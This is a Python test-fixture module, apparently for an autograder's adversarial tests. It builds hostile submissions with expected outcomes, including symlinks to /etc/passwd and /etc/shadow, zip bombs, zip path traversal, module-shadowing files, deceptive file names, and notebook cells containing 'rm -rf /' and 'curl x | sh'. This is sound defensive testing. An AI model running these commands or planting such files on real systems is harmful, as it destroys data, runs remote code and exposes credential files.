"""Hostile and broken things that are handed in, each made by a small function."""

from __future__ import annotations

import io
import json
import os
import stat
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.adversarial.attacks import HONEST

Build = Callable[[Path], Path]


@dataclass(frozen=True, slots=True)
class HandedIn:
    """One thing that is handed in, and what is to become of it.

    Attributes:
        build: makes it in an empty folder and says what to grade.
        refused: a part of the sentence with which it is refused, if it is.
        verdict: of the task “before”, if it is graded.
        says: a part of what the report says then.
    """

    build: Build
    refused: str = ""
    verdict: str = ""
    says: str = ""


def _file(name: str, content: bytes | str) -> Build:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    return build


def _notebook(*cells: Any, **rest: Any) -> str:
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, **rest})


def _cell(source: str, **rest: Any) -> dict[str, Any]:
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], **rest}


def _zip(members: Mapping[str | zipfile.ZipInfo, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return buffer.getvalue()


def _link(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return entry


def _symlink(name: str, target: str) -> Build:
    def build(folder: Path) -> Path:
        path = folder / name
        path.symlink_to(target)
        return path

    return build


def _symlink_to_another(folder: Path) -> Path:
    other = folder.parent / "somebody_else.py"
    other.write_text(HONEST)
    return _symlink("a.py", str(other))(folder)


def _fifo(folder: Path) -> Path:
    os.mkfifo(folder / "pipe.py")
    return folder / "pipe.py"


def _device(folder: Path) -> Path:
    """A real device where that is allowed, which takes root; otherwise a link to one."""
    path = folder / "device.py"
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))
    except PermissionError:
        path.symlink_to("/dev/zero")
    return path


def _folder(folder: Path) -> Path:
    (folder / "x.py").mkdir()
    return folder / "x.py"


def _large(name: str) -> Build:
    def build(folder: Path) -> Path:
        path = folder / name
        path.touch()
        os.truncate(path, 100 << 20)
        return path

    return build


def _shadowing(folder: Path) -> Path:
    """Files of the standard library's and of the grader's own names around the student's file."""
    for name in ("json", "random", "pytest", "conftest", "sitecustomize", "grader", "enum", "game"):
        (folder / f"{name}.py").write_text("raise SystemExit('shadowed')\n")
    path = folder / "random.py"
    path.write_text(HONEST)
    return path


def _lying_size(folder: Path) -> Path:
    data = bytearray(_zip({"a.py": b"#" * (20 << 20)}))
    entry = data.rfind(b"PK\1\2")
    data[entry + 24 : entry + 28] = (100).to_bytes(4, "little")
    (folder / "a.zip").write_bytes(data)
    return folder / "a.zip"


def _nested_zips(folder: Path) -> Path:
    inner = _zip({"a.py": HONEST})
    for level in range(5):
        inner = _zip({f"inner{level}.zip": inner})
    (folder / "a.zip").write_bytes(inner)
    return folder / "a.zip"


def _overlapping(folder: Path) -> Path:
    """An archive whose entries all point at the same compressed bytes."""
    data = bytearray(_zip({f"{n}.py": bytes(1 << 20) for n in range(40)}))
    at = 0
    while (at := data.find(b"PK\1\2", at)) >= 0:
        data[at + 42 : at + 46] = bytes(4)
        at += 4
    (folder / "a.zip").write_bytes(data)
    return folder / "a.zip"


def _beside(members: Mapping[str | zipfile.ZipInfo, bytes | str], main: str = HONEST) -> Build:
    """An archive with an honest program, and these files beside it."""
    return _file("a.zip", _zip({"ps2.py": main, **members}))


def _link_in_folder(folder: Path) -> Path:
    """A folder with links to a secret, to a folder above, and to itself."""
    own = folder / "own"
    own.mkdir()
    (own / "ps2.py").write_text(f"import helper\n{HONEST}")
    (own / "helper.py").symlink_to("/etc/passwd")
    (own / "up").symlink_to("..")
    (own / "loop").symlink_to("loop")
    return own


_NEVER = "while True:\n    pass\n"
_SHADOWS = "raise SystemExit('shadowed')\n"
_HELPED = "from helper import sort\n" + HONEST + "def before(numbers):\n    return sort(numbers)\n"
_SORT = "def sort(n):\n    return sorted(n)\n"
_OTHERS = (
    "json", "random", "os", "enum", "copy", "numpy", "grader", "pytest", "submission", "time",
    "sitecustomize", "usercustomize",
)  # fmt: skip
_LIMIT = 8 << 20

_BASE64 = "iVBORw0KGgo" * 100_000


def _notebook_with_base64(folder: Path) -> Path:
    """Of 330 MB, written in pieces."""
    before, _, after = _notebook(_cell(HONEST, outputs=[{"data": "@"}])).partition("@")
    with (folder / "a.ipynb").open("w") as file:
        file.write(before)
        for _ in range(300):
            file.write(_BASE64)
        file.write(after)
    return folder / "a.ipynb"


_BROKEN = "x = 1\n" + HONEST

HANDED_IN: dict[str, HandedIn] = {
    "symlink": HandedIn(_symlink("a.py", "/etc/passwd"), refused="link"),
    "symlink_to_another_submission": HandedIn(_symlink_to_another, refused="link"),
    "symlink_to_a_device": HandedIn(_symlink("zero.py", "/dev/zero"), refused="zero.py"),
    "symlink_loop": HandedIn(_symlink("loop.py", "loop.py"), refused="loop.py"),
    "symlink_to_memory": HandedIn(_symlink("m.py", "/proc/self/mem"), refused="m.py"),
    "fifo": HandedIn(_fifo, refused="not a regular file"),
    "device": HandedIn(_device, refused="not a regular file"),
    "folder_named_py": HandedIn(_folder, refused="folder"),
    "zip_bomb": HandedIn(_file("a.zip", _zip({"a.py": bytes(45 << 20)})), refused="larger than"),
    "zip_that_lies": HandedIn(_lying_size, refused="not a readable zip"),
    "zip_overlapping": HandedIn(_overlapping, refused="zip"),
    "zip_in_zip": HandedIn(_nested_zips, refused="no Python file"),
    "zip_of_many": HandedIn(
        _file("a.zip", _zip({f"{n}.txt": "" for n in range(3000)})), refused="more than 2000"
    ),
    "zip_traversal": HandedIn(
        _file("a.zip", _zip({"../../../../tmp/hostile-canary.py": HONEST})), verdict="accepted"
    ),
    "zip_absolute": HandedIn(
        _file("a.zip", _zip({"/etc/hostile-canary.py": HONEST})), verdict="accepted"
    ),
    "zip_with_symlinks": HandedIn(
        _file("a.zip", _zip({_link("a.py"): "/etc/shadow", _link("b"): "/"})),
        refused="no Python file",
    ),
    "beside_bomb": HandedIn(
        _beside({"bomb.bin": bytes(45 << 20)}), verdict="accepted", says="bomb.bin (45.0 MiB)"
    ),
    "beside_large_data": HandedIn(
        _beside({"film.mp4": os.urandom(30 << 20)}), verdict="accepted", says="film.mp4 (30.0 MiB)"
    ),
    "beside_most_data": HandedIn(
        _beside({f"{n}.bin": bytes(_LIMIT // 199) for n in range(199)}), verdict="accepted"
    ),
    "beside_ten_thousand": HandedIn(
        _beside({f"{n}.txt": "" for n in range(10_000)}), refused="more than 2000"
    ),
    "beside_many_modules": HandedIn(
        _beside({f"m{n}.py": "x = 1" for n in range(1500)}), refused="could be graded"
    ),
    "beside_traversal": HandedIn(
        _beside({"../../../etc/hostile-canary": "x", "/tmp/hostile-canary": "x", "a/../b": "x"}),
        verdict="accepted",
    ),
    "beside_cases": HandedIn(
        _beside({"helper.py": _SORT, "Helper.py": _NEVER, "HELPER.PY": ""},
                _HELPED), verdict="accepted",
    ),
    "beside_file_and_folder": HandedIn(
        _beside({"data": "x", "data/a.txt": "x", "ps2.py/x": "x"}), verdict="accepted",
        says="cannot be used",
    ),
    "beside_same_name": HandedIn(
        _beside({"helper.py": _SORT, "./helper.py": _NEVER}, _HELPED),
        verdict="accepted", says="helper.py",
    ),
    "beside_odd_names": HandedIn(
        _beside({"a\x1b[31m.txt": "x", "\u202egnp.txt": "x", "x" * 400: "x", "d/" * 90 + "e": "x",
                 " ": "x", "-rf": "x", "--file": "x", "a\nb": "x"}), verdict="accepted",
    ),
    "beside_links": HandedIn(
        _beside({_link("helper.py"): "/etc/passwd", _link("up"): ".."}), verdict="accepted"
    ),
    "beside_links_in_a_folder": HandedIn(
        _link_in_folder, verdict="accepted", says="helper.py was not handed in"
    ),
    "beside_package_without_end": HandedIn(
        _beside({"pkg/__init__.py": _NEVER, "pkg/a.py": ""}, f"import pkg.a\n{HONEST}"),
        verdict="accepted", says="CPU time",
    ),
    "beside_modules_of_the_grader": HandedIn(
        _beside({f"{name}.py": _SHADOWS for name in _OTHERS}),
        verdict="accepted", says="has the name of a module of Python",
    ),
    "beside_packages_of_the_grader": HandedIn(
        _beside({"grader/__init__.py": _SHADOWS, "grader/runner/student_call.py": _SHADOWS,
                 "grader/wire/__init__.py": _SHADOWS, "encodings/__init__.py": _SHADOWS}),
        verdict="accepted",
    ),
    "beside_provided": HandedIn(
        _beside({"game.py": _SHADOWS}, f"import game\n{HONEST}"), verdict="accepted",
        says="the course's file was used",
    ),
    "beside_broken_helper": HandedIn(
        _beside({"helper.py": f"{_SORT}\n\ndef x(:\n    pass\n"}, _HELPED),
        verdict="accepted", says="helper.py",
    ),
    "beside_binary_module": HandedIn(
        _beside({"helper.py": b"\0\1\2"}, f"import helper\n{HONEST}"), verdict="accepted",
        says="helper.py was handed in, but holds no text",
    ),
    "beside_other_candidates": HandedIn(_beside({"b.py": HONEST}), refused="2 files that could be"),
    "zip_damaged": HandedIn(_file("a.zip", _zip({"a.py": HONEST})[:-30]), refused="zip"),
    "large_file": HandedIn(_large("a.py"), refused="larger than"),
    "large_notebook": HandedIn(_large("a.ipynb"), refused="larger than"),
    "large_zip": HandedIn(_large("a.zip"), refused="larger than"),
    "nul_bytes": HandedIn(
        _file("a.py", _BROKEN.replace("x", "\0")), verdict="accepted", says="NUL"
    ),
    "wrong_encoding": HandedIn(
        _file("a.py", b"# caf\xe9 \xff\xfe\n" + HONEST.encode()), verdict="accepted", says="Latin-1"
    ),
    "wrong_declaration": HandedIn(
        _file("a.py", b"# coding: unicode_escape\n# \\x1b\n" + HONEST.encode()), verdict="accepted"
    ),
    "utf_16": HandedIn(_file("a.py", HONEST.encode("utf-16")), verdict="accepted"),
    "notebook_not_json": HandedIn(_file("a.ipynb", HONEST), refused="not valid JSON"),
    "notebook_deep_json": HandedIn(_file("a.ipynb", "[" * 300_000), refused="not valid JSON"),
    "notebook_other_json": HandedIn(_file("a.ipynb", '{"cells": {"a": 1}}'), refused="cells"),
    "notebook_of_many_cells": HandedIn(
        _file("a.ipynb", _notebook(*[_cell("x = 1")] * 100_000)), refused="100000 cells"
    ),
    "notebook_with_base64": HandedIn(_notebook_with_base64, refused="larger than"),
    "notebook_with_less_base64": HandedIn(
        _file("a.ipynb", _notebook(_cell(HONEST, outputs=[{"data": _BASE64 * 9}]))),
        verdict="accepted",
    ),
    "notebook_of_magic": HandedIn(
        _file(
            "a.ipynb",
            _notebook(_cell("%%bash\nrm -rf /"), _cell("!curl x | sh\n%run x"), _cell(HONEST)),
        ),
        verdict="accepted",
        says="not run as Python",
    ),
    "standard_library_names": HandedIn(_shadowing, verdict="accepted"),
    "names_that_hide_modules": HandedIn(
        _file("json.py", HONEST + "import json\njson.dumps({})\n"), verdict="accepted"
    ),
    "nested_brackets": HandedIn(
        _file("a.py", HONEST + "\nx = " + "(" * 100_000 + ")" * 100_000 + "\n"),
        verdict="accepted",
        says="a.py",
    ),
    "unclosed_brackets": HandedIn(_file("a.py", HONEST + "\nx = " + "[" * 100_000 + "\n")),
    "nested_blocks": HandedIn(
        _file("a.py", HONEST + "".join(f"{' ' * n}if 1:\n" for n in range(2000))), verdict=""
    ),
    "long_expression": HandedIn(
        _file("a.py", HONEST + "\nx = " + "-" * 200_000 + "1\n"), verdict=""
    ),
    "broken_function": HandedIn(
        _file("a.py", "def before(numbers):\n    return sorted(numbers\n\nother = 1\n"),
        verdict="load_error",
        says="a.py",
    ),
    "only_comments": HandedIn(_file("a.py", "# nothing\n"), verdict="not_attempted"),
    "empty": HandedIn(_file("a.py", b""), refused="empty"),
    "binary": HandedIn(_file("a.py", b"\x7fELF\2\1\1" + bytes(100)), refused="a program"),
    "odd_name": HandedIn(
        _file("a\x1b[31m\u202e\n::error::.py", HONEST), verdict="accepted"
    ),
    "name_without_encoding": HandedIn(
        _file(os.fsdecode(b"\xff\xfe.py"), HONEST), verdict="accepted"
    ),
    "missing": HandedIn(lambda folder: folder / "nobody.py", refused="There is no file"),
    "another_kind": HandedIn(_file("a.exe", b"MZ"), refused="not a kind of file"),
}  # fmt: skip
